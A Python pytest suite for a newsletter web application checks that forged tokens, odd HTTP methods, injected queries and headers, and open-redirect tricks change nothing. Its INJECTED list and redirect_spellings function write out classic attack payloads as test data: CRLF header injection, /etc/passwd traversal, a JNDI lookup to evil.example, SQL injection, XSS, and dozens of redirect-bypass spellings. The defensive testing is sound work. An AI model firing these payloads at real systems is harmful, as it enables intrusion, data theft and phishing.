"""What strangers may try on every route: forged tokens, odd methods, injections, redirects. Nothing changes, one calm answer."""

from __future__ import annotations

import asyncio
import string
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from hashlib import sha256
from typing import Any
from urllib.parse import unquote

import pytest
from starlette.routing import Route
from starlette.types import ASGIApp, Message

from composer.domain.keys import Keys
from composer.domain.tokens import (
    Purpose,
    Subject,
    click_token,
    make_token,
    read_click_token,
    read_mail_token,
    read_survey_token,
    read_token,
)
from composer.pipeline.forgetting import forget_person
from composer.web import api, public
from composer.web.app import found
from tests.web.world import NOW, SCHEDULED, World

ROUTES = sorted({route.path for route in found(public, api) if isinstance(route, Route)})
OF_TOKENS = [path for path in ROUTES if "{t}" in path]
FORM = (b"content-type", b"application/x-www-form-urlencoded")
FORMS = (
    b"erase=forever&form=preferences&level=none&daypart=&ask=less&module=guide/thing-1"
    b"&email=x%40example.com&answer=1&demand=letters&forget=1"
)
"""A word for every form at once: a forged token must not come as far as having it read."""
METHODS = ("GET", "HEAD", "OPTIONS", "POST", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "QUERY", "get", "\x00", "LINK")
EVIL = "evil.example"


@dataclass(frozen=True)
class Answer:
    """What came back, without what differs from one request to the next."""

    status: int
    headers: tuple[tuple[bytes, bytes], ...]
    body: bytes

    def names(self) -> set[bytes]:
        return {name for name, _ in self.headers}


class Stranger:
    """Asks an application straight away: what a test client adds to a request takes longer than the answer."""

    def __init__(self, app: ASGIApp) -> None:
        self._app, self._runner = app, asyncio.Runner()

    def ask(self, method: str, path: str, query: bytes = b"", headers: Sequence[tuple[bytes, bytes]] = (), body: bytes = b"") -> Answer:
        sent: list[Message] = []
        coming: list[Message] = [{"type": "http.request", "body": body, "more_body": False}]

        async def receive() -> Message:
            return coming.pop() if coming else {"type": "http.disconnect"}

        async def send(message: Message) -> None:
            sent.append(message)

        scope: dict[str, Any] = {
            "type": "http",
            "asgi": {"version": "3.0", "spec_version": "2.3"},
            "http_version": "1.1",
            "method": method,
            "scheme": "http",
            "path": unquote(path),
            "raw_path": path.encode(),
            "query_string": query,
            "root_path": "",
            "headers": [(b"host", b"pages.example.com"), *([(b"content-length", str(len(body)).encode())] if body else []), *headers],
            "client": ("192.0.2.1", 1),
            "server": ("127.0.0.1", 80),
        }
        self._runner.run(self._app(scope, receive, send))  # type: ignore[arg-type]  # what an application returns is a coroutine
        start, *rest = sent
        return Answer(start["status"], tuple(start["headers"]), b"".join(part.get("body", b"") for part in rest))

    def close(self) -> None:
        self._runner.close()


@pytest.fixture
def stranger(world: World) -> Iterator[Stranger]:
    with world.client() as client:
        asking = Stranger(client.app)
        yield asking
        asking.close()


def tokens(world: World) -> list[str]:
    """A good token of every kind, for both people and both lists."""
    subjects = [Subject(who, campaign, SCHEDULED) for who in (1, 2) for campaign in (world.weekly, world.energy)]
    plain = [make_token(world.app.keys, purpose, subject) for purpose in Purpose for subject in subjects]
    return [*plain, *(click_token(world.app.keys, subject, 1) for subject in subjects), world.confirmation()]


class Draw:
    """The same choices on every run."""

    def __init__(self) -> None:
        self._number = 0

    def below(self, end: int) -> int:
        self._number += 1
        return int.from_bytes(sha256(b"%d" % self._number).digest()[:6]) % end

    def choice(self, of: Sequence[Any]) -> Any:
        return of[self.below(len(of))]


def mutated(good: Sequence[str], count: int) -> list[str]:
    """`count` tokens that are nobody's: characters changed, bits flipped, cut, lengthened, spliced of two, spelt otherwise."""
    draw, alphabet, found = Draw(), string.ascii_letters + string.digits + "-_", dict[str, None]()
    while len(found) < count:
        one, other = draw.choice(good), draw.choice(good)
        at = draw.below(len(one))
        kind = draw.below(10)
        token = (
            one[:at] + draw.choice(alphabet) + one[at + 1 :],
            one[:at] + chr(ord(one[at]) ^ (1 << draw.below(5))) + one[at + 1 :],
            one[:at],
            one + draw.choice([*alphabet, "=", "==", "%00", ".", " "]),
            one[:22] + other[22:],  # its seal, another's recipient or campaign
            one[:-6] + other[-6:],
            one.swapcase(),
            one.replace("-", "+", 1) if "-" in one else one.replace("_", "/", 1),
            "".join(draw.choice(alphabet) for _ in range(draw.choice((36, 40)))),
            one[: at - at % 4] + draw.choice(["/", "+", "é", "\u202e", "\uff21", "'", '"', "<", "%2e%2e"]) + one[at:],
        )[kind]
        if token and token not in good and token not in (".", ".."):
            found[token] = None
    return list(found)


def test_two_thousand_mutated_tokens_open_nothing_on_any_token_route(
    world: World, stranger: Stranger, unchanged: Callable[[], None]
) -> None:
    forged = [token for token in mutated(tokens(world), 2_300) if "/" not in token][:2_000]  # that is another route's path
    assert len(forged) == 2_000
    usual = {
        (path, method): stranger.ask(method, path.replace("{t}", "A" * 36), headers=[FORM], body=FORMS if method == "POST" else b"")
        for path in OF_TOKENS
        for method in ("GET", "POST")
    }
    asked = [(path, method) for path in OF_TOKENS for method in ("GET", "POST") if "erase" not in path or method == "POST"]
    for place, token in enumerate(forged):
        path, method = asked[place % len(asked)]
        quoted = "".join(c if (c.isascii() and c.isalnum()) or c in "-_%" else "".join(f"%{b:02x}" for b in c.encode()) for c in token)
        answer = stranger.ask(method, path.replace("{t}", quoted), headers=[FORM], body=FORMS if method == "POST" else b"")
        assert answer == usual[path, method], (method, path, token)
    assert {answer.status for answer in usual.values()} <= {200, 404, 405}


def test_mutated_tokens_are_nobodys_to_every_reader_whatever_the_ring() -> None:
    keys = Keys(b"1" * 32, ((SCHEDULED, b"2" * 32),))
    subjects = [Subject(who, 3, SCHEDULED) for who in (1, 2)]
    good = [make_token(keys, purpose, subject) for purpose in Purpose for subject in subjects] + [click_token(keys, subjects[0], 2)]
    for token in mutated(good, 2_000):
        assert [read_token(keys, purpose, token) for purpose in Purpose] == [None] * len(Purpose), token
        assert read_click_token(keys, token) is read_survey_token(keys, token) is None
        assert read_mail_token(keys, Purpose.return_path, token) is None


def test_an_erased_persons_token_is_an_unknown_token(world: World, stranger: Stranger) -> None:
    def ask(path: str, method: str, token: str) -> Answer:
        return stranger.ask(method, path.replace("{t}", token), headers=[FORM], body=FORMS if method == "POST" else b"")

    subject = Subject(2, world.weekly, SCHEDULED)
    theirs = [make_token(world.app.keys, purpose, subject) for purpose in Purpose] + [click_token(world.app.keys, subject, 1)]
    forget_person(world.app, 2, NOW, [world.inbox])
    before = world.dump()
    for path in OF_TOKENS:
        for method in ("GET", "POST"):
            unknown = ask(path, method, "A" * 36)
            assert {ask(path, method, token) for token in theirs} == {unknown}, (method, path)
    assert world.dump() == before


@pytest.mark.parametrize("path", ROUTES)
def test_every_method_on_every_route_is_answered_calmly(world: World, stranger: Stranger, unchanged: Callable[[], None], path: str) -> None:
    """With a stranger's token: what a POST does with one's own is its page's test."""
    page = path.replace("{t}", "A" * 36).replace("{picture}", "x.png").replace("{provider}", "ses").replace("{secret}", "x")
    for method in METHODS:
        answer = stranger.ask(method, page)
        assert answer.status in (200, 404, 405, 415, 422), (method, answer.status)
        assert b"set-cookie" not in answer.names()
        assert b"location" not in answer.names()
        assert {b"content-security-policy", b"x-content-type-options", b"referrer-policy"} <= answer.names()
        if answer.status == 405:
            assert method.encode() not in dict(answer.headers)[b"allow"].split(b", ")
        assert not (method == "HEAD" and answer.body)


INJECTED = (
    "x\r\nSet-Cookie: a=b",
    "x%0d%0aSet-Cookie:%20a=b",
    "x\nLocation: https://evil.example",
    "\x00",
    "%00",
    "../../../etc/passwd",
    "{{ 7*7 }}",
    "${jndi:ldap://evil.example}",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "\u202e\ufeff\ud7ff",
    "fi;q=1,en;q=nan",
    "%ff%fe",
    "en" * 5_000,
    "-1",
    "9" * 400,
    "1e400",
)


@pytest.mark.parametrize("injected", INJECTED, ids=range(len(INJECTED)))
def test_nothing_that_is_written_into_a_query_or_a_header_comes_back_or_changes_anything(
    world: World, stranger: Stranger, unchanged: Callable[[], None], injected: str
) -> None:
    raw = injected.encode("utf-8", "surrogatepass")
    pages = [
        f"/p/{world.token(Purpose.preferences)}",
        f"/w/{world.token(Purpose.why)}",
        f"/u/{world.token(Purpose.unsubscribe_body)}",
        "/subscribe",
    ]
    quoted = "".join(f"%{byte:02x}" for byte in raw).encode()
    for page in pages:
        names = {name for name, _ in stranger.ask("GET", page).headers}
        for query in (
            b"l=" + quoted,
            b"l=" + raw.replace(b"\n", b"").replace(b"\r", b""),
            quoted + b"=1",
            b"wish=" + quoted,
            b"list=" + quoted,
        ):
            answer = stranger.ask("GET", page, query)
            assert answer.status in (200, 422), (page, query)
            assert {name for name, _ in answer.headers} == names
        lines = raw.replace(b"\r", b"").replace(b"\n", b"")
        said = [
            (name, lines) for name in (b"accept-language", b"referer", b"user-agent", b"x-forwarded-for", b"forwarded", b"x-forwarded-host")
        ]
        answer = stranger.ask("GET", page, headers=said)
        assert answer.status == 200
        assert {name for name, _ in answer.headers} == names
        for text in (b"alert(1)", b"onerror=", b"passwd", b"jndi", b"OR 1=1"):
            assert text not in answer.body
            assert not any(text in value for _, value in answer.headers)


def redirect_spellings() -> list[tuple[str, bytes]]:
    """Ways to have an open door lead elsewhere, as paths and queries: each of them on each way in."""
    targets = (
        f"https://{EVIL}", f"http://{EVIL}/", f"//{EVIL}", f"///{EVIL}", f"/\\{EVIL}", f"\\\\{EVIL}", f"https:{EVIL}", f"https:/{EVIL}",
        f"https:///{EVIL}", f"%2f%2f{EVIL}", f"%5c%5c{EVIL}", f"/%09/{EVIL}", f"/%2f{EVIL}", f"%68ttps://{EVIL}", f"https%3a%2f%2f{EVIL}",
        f"javascript:alert('{EVIL}')", f"data:text/html,{EVIL}", f"//{EVIL}%00.example.com", f"//pages.example.com@{EVIL}", f"//{EVIL}#",
        f"//{EVIL}?", f"/.{EVIL}", "//%65vil.example", f"https://{EVIL}%0d%0aLocation:x", "//[::ffff:192.0.2.1]", "//3221225985",
    )  # fmt: skip
    names = (b"url", b"u", b"to", b"next", b"r", b"redirect", b"redirect_uri", b"return", b"target", b"dest", b"goto", b"continue", b"l")
    within = [
        (f"{base}{target}", b"") for base in ("/", "/c/", "/u/", "/p/", "/v/", "/confirm/", "/static/", "/pictures/") for target in targets
    ]
    return within + [("/c/" + "A" * 40, name + b"=" + target.encode()) for name in names for target in targets]


def test_no_spelling_of_a_redirect_leads_anywhere(stranger: Stranger, unchanged: Callable[[], None]) -> None:
    spellings = redirect_spellings()
    assert len(spellings) >= 325
    for path, query in spellings:
        answer = stranger.ask("GET", path, query)
        assert (answer.status, b"location" in answer.names()) == (404, False) or (path.startswith("/u/") and answer.status == 200), path
        assert EVIL.encode() not in answer.body
        assert not any(EVIL.encode() in value for _, value in answer.headers)
